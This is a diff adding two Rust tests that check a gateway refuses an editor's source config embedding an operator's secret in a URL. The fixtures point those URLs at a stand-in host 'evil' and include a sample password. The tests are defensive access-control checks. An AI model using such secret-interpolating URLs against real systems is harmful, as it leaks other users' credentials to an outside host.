@@ -98,6 +98,33 @@ async fn an_editors_source_gets_no_secret_of_an_operators_source() {
 }
 
 #[tokio::test]
+async fn it_does_not_get_one_when_the_operators_source_is_gone_either() {
+    let (world, editor) = world().await;
+    // An administrator may have set it over the REST API: serving the operator's source makes it the operator's.
+    world.gateway.set_secret(&editor, "shared", &SecretString::from("hunter2")).await.unwrap();
+    world.apply("sources: [{name: crm, type: http, url: 'http://app:${secret:shared}@crm'}]").await.unwrap();
+    world.gateway.delete_source(&editor, "crm", None).await.unwrap();
+    let evil = "sources: [{name: shared, type: http, url: 'http://app:${secret:shared}@evil'}]";
+    let refused = world.gateway.apply(&editor, evil, EDITOR).await;
+    assert!(matches!(&refused, Err(Error::Invalid(found)) if found[0].message.contains("operator")), "{refused:?}");
+    assert!(!told(&world, "@evil"));
+}
+
+#[tokio::test]
+async fn a_secret_that_the_operator_set_in_advance_waits_for_the_operators_source() {
+    let (world, editor) = world().await;
+    world.gateway.set_secret(&world.operator, "early.password", &SecretString::from("hunter2")).await.unwrap();
+    let evil = "sources: [{name: early, type: http, url: 'http://app:${secret:early.password}@evil'}]";
+    for options in [DRY, EDITOR] {
+        let refused = world.gateway.apply(&editor, evil, options).await;
+        assert!(matches!(&refused, Err(Error::Invalid(found)) if found[0].message.contains("operator")), "{refused:?}");
+    }
+    assert!(!told(&world, "@evil"));
+    world.gateway.set_secret(&editor, "early.password", &SecretString::from("their own")).await.unwrap();
+    world.gateway.apply(&editor, evil, EDITOR).await.unwrap();
+}
+
+#[tokio::test]
 async fn tools_are_checked_before_their_sources_secret_is_there() {
     let world = World::new().await;
     let editor = somebody("ed", Role::Editor, &[]);
